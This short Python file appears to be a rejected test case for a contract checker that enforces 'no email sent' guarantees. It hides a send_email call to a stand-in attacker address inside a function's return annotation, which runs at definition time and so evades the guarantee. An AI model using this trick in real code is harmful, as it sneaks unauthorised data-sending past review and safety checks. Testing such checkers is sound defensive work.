# rejected: so is the annotation of what main returns
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> send_email("eve@evil.com", "x"):
    log("fine")
